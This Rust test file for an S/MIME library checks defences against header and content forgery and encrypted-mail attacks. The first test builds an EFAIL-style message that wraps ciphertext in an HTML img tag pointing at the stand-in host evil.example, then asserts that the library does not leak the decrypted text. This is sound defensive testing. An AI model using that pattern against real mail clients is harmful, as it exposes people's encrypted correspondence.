//! SIG-19, ENC-02, ENC-18: headers and content that somebody else carries on, or puts his own around.

use smime::report::{Encryption, HeaderProtection, SignerStatus};

use crate::ca::Key;
use crate::forge::*;
use crate::people::{CAROL, mail_to, person, protector};
use crate::tools::*;

/// Direct exfiltration (EFAIL): the decrypted text is never joined to what stands around it.
#[test]
fn enc_02_a_decrypted_part_is_handed_out_alone() {
    let protected = protector()
        .encrypt_to([bob_rsa().certificate()])
        .not_to_self()
        .protect(mail_to("To: bob@example.org\r\n").as_str())
        .unwrap();
    let mail = String::from_utf8(protected.copies()[0].bytes().to_vec()).unwrap();
    let at = mail.find("Content-Type: application/pkcs7-mime").unwrap();
    let attack = mixed(
        "mixed",
        &[
            "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/",
            mail[at..].trim_end(),
            "Content-Type: text/html\r\n\r\n\">",
        ],
    );
    let opened = open(&attack);
    assert_verdict(&opened, "unsigned", "exfiltration");
    let message = shown(&opened).unwrap();
    let secret = message
        .parts()
        .iter()
        .find(|part| String::from_utf8_lossy(part.bytes()).contains("Hello Bob"))
        .expect("the decrypted part is there");
    let text = String::from_utf8_lossy(secret.bytes()).into_owned();
    assert!(!text.contains("evil.example"));
    assert_eq!(
        secret.protection().encryption(),
        Encryption::Unauthenticated
    );
    assert!(
        !String::from_utf8_lossy(message.bytes()).contains("Hello Bob"),
        "the whole holds the ciphertext only"
    );
    assert!(
        told(&opened).contains("part of the message is protected"),
        "{}",
        opened.report()
    );
}

/// What Alice wrote to Bob, encrypted by Bob to Carol: the signed header shows it.
#[test]
fn enc_18_a_message_meant_for_somebody_else() {
    let part = "From: alice@example.org\r\nTo: dave@example.org\r\nSubject: Q3\r\n\
                Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Dave";
    let inner = opaque_mail("", &Signed::new(part.as_bytes(), &[&alice()]).build());
    let key = [7; 16];
    let iv = [9; 16];
    let bob = bob_rsa();
    let envelope = Enveloped {
        kind: ENVELOPED,
        recipients: vec![key_transport(
            bob.certificate().to_der(),
            &rsa_pkcs1(&bob, &key),
        )],
        content_type: DATA,
        algorithm: aes_128_cbc_id(&iv),
        ciphertext: aes_128_cbc(&key, &iv, &inner),
        attributes: Vec::new(),
        mac: None,
    };
    let opened = open(opaque_mail(HEADERS, &envelope.build()));
    assert_verdict(&opened, "trusted", "the signature is Alice's");
    let report = opened.report();
    let to = report
        .protected_headers()
        .iter()
        .find(|field| field.name().eq_ignore_ascii_case("to"))
        .expect("the signed To is reported");
    assert_eq!(to.value(), "dave@example.org");
    let text = told(&opened);
    assert!(
        text.contains("wrote to dave@example.org and not to you"),
        "{text}"
    );
}

#[test]
fn sig_19_a_changed_subject_is_seen() {
    let part = "From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: Q3\r\n\
                Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Bob";
    let signed = Signed::new(part.as_bytes(), &[&alice()]).build();
    let opened = open(opaque_mail(HEADERS, &signed));
    assert_verdict(&opened, "trusted", "the same");
    assert_eq!(opened.report().header_protection(), HeaderProtection::Clear);
    assert!(!told(&opened).contains("header field Subject"));

    let changed = HEADERS.replace("Subject: Q3", "Subject: Q4");
    let opened = open(opaque_mail(&changed, &signed));
    let report = told(&opened);
    assert!(report.contains("header field Subject"), "{report}");
    let status = opened.report().layers()[0].signers()[0].status();
    assert!(status == SignerStatus::Trusted || verdict(&opened) == "untrusted");
}

/// Alice signs what she forwards, without saying that it is forwarded: the report does not call its header hers.
#[test]
fn sig_19_the_header_of_a_forwarded_message_is_not_the_signers() {
    let part = "Content-Type: message/rfc822\r\n\r\nFrom: Boss <boss@example.org>\r\nSubject: pay now\r\n\
                Content-Type: text/plain\r\n\r\nHello Alice";
    let signed = Signed::new(part.as_bytes(), &[&alice()]).build();
    let opened = open(opaque_mail(HEADERS, &signed));
    assert_verdict(&opened, "trusted", "Alice signed it");
    let report = opened.report();
    assert_eq!(report.header_protection(), HeaderProtection::None);
    assert!(report.protected_headers().is_empty());
    assert!(!report.to_string().contains("believe"), "{report}");
}

/// Nothing of what is kept back stands in the report: header fields, recipients, parts, what is signed inside.
#[test]
fn sig_19_a_report_tells_nothing_of_withheld_content() {
    let nested = signed_part("Content-Type: application/x-secret\r\n\r\nHello Bob");
    let part = format!(
        "From: alice@example.org\r\nTo: dave@secret.example\r\nSubject: secret\r\nX-Secret: 1\r\n\
         Content-Type: multipart/x-secret; boundary=s; hp=\"clear\"\r\n\r\n--s\r\n{nested}\r\n\
         --s\r\nContent-Type: multipart/signed; boundary=secret\r\n\r\n--s--\r\n"
    );
    let mut signed = Signed::new(b"something else", &[&alice()]);
    signed.carried = Some(part.clone().into_bytes());
    let inner = opaque_mail("", &signed.build());
    let (key, iv, bob) = ([7; 16], [9; 16], bob_rsa());
    let envelope = Enveloped {
        kind: ENVELOPED,
        recipients: vec![key_transport(
            bob.certificate().to_der(),
            &rsa_pkcs1(&bob, &key),
        )],
        content_type: DATA,
        algorithm: aes_128_cbc_id(&iv),
        ciphertext: aes_128_cbc(&key, &iv, &inner),
        attributes: Vec::new(),
        mac: None,
    };
    let opened = open(opaque_mail(HEADERS, &envelope.build()));
    assert_verdict(&opened, "withheld", "other content");
    let report = opened.report();
    assert!(report.protected_headers().is_empty());
    assert_eq!(report.header_protection(), HeaderProtection::None);
    assert!(report.parts().is_empty());
    assert_eq!(report.layers().len(), 2, "{report}");
    let mut texts = vec![report.to_string(), report.headline()];
    #[cfg(feature = "serde")]
    texts.push(serde_json::to_string(report).unwrap());
    for text in texts.drain(..) {
        assert!(!text.to_lowercase().contains("secret"), "{text}");
        assert!(!text.contains("believe"), "{text}");
    }
    // The caller who insists gets it all the same.
    let smime::open::Content::Withheld(withheld) = opened.content() else {
        panic!("not withheld");
    };
    assert_eq!(withheld.dangerous().bytes(), part.as_bytes());
    assert!(withheld.dangerous().parts().len() > 1);
}

/// Carol signs a header of Alice's, and puts her own around it: her signature is good, and the two readings differ.
#[test]
fn sig_19_another_from_inside_takes_the_trust_away() {
    let carol = person(Key::P256, CAROL);
    let outer = HEADERS.replace("Alice <alice@example.org>", CAROL);
    for (inner, expected) in [(CAROL, "trusted"), ("alice@example.org", "untrusted")] {
        let part = format!(
            "From: {inner}\r\nTo: bob@example.org\r\nSubject: Q3\r\n\
             Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Bob"
        );
        let signed = Signed::new(part.as_bytes(), &[&carol]).build();
        assert_verdict(&open(opaque_mail(&outer, &signed)), expected, inner);
    }
}
